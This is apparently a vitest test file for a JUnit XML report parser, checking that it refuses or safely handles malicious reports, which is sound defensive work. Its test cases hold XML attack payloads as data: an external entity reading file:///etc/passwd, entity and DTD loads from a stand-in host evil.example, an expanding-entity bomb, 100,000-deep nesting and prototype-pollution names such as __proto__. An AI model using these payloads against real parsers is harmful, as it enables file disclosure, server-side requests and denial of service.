import { expect, test } from 'vitest'
import { parseJunit } from '../../src/verify/junit.ts'

const testcase = '<testcase name="a"/>'
const suite = (inner: string): string => `<testsuite>${inner}</testsuite>`
const doctype = (inner: string): string => `<!DOCTYPE x ${inner}>${suite(testcase)}`

test.each([
  ['entities that expand without limit', doctype('[<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]')],
  ['an external entity', doctype('[<!ENTITY e SYSTEM "file:///etc/passwd">]')],
  ['a parameter entity', doctype('[<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]')],
  ['an external document type', doctype('SYSTEM "http://evil.example/x.dtd"')],
  ['a document type in lower case', `<!doctype x>${suite(testcase)}`],
  ['an entity without a document type', `<!ENTITY a "x">${suite(testcase)}`],
])('a report with %s is refused', (_what, text) => {
  expect(() => parseJunit(text)).toThrow(/document type/)
})

test.each([
  ['100,000 nested suites', `${'<testsuite>'.repeat(100_000)}${testcase}${'</testsuite>'.repeat(100_000)}`],
  ['100,000 nested elements', suite(`${'<x>'.repeat(100_000)}${'</x>'.repeat(100_000)}`)],
])('a report with %s is an error that can be reported, not a crash', (_what, text) => {
  try {
    parseJunit(text)
  } catch (error) {
    expect(error).toBeInstanceOf(Error)
  }
})

test.each(['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'])('an element or attribute %s changes nothing', (name) => {
  const text = suite(`<testcase name="a" ${name}="b"><${name}><polluted>1</polluted></${name}></testcase>`)
  try {
    expect(parseJunit(text).map((one) => [one.name, one.status])).toEqual([['a', 'passed']])
  } catch (error) {
    // The parser refuses such names.
    expect(String(error)).toMatch(/not allowed|reserved|SECURITY|prototype|restricted/i)
  }
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined()
})

test('an unknown entity stays text', () => {
  expect(parseJunit(suite('<testcase name="&file;&#x41;"/>'))[0]?.name).toBe('&file;A')
})
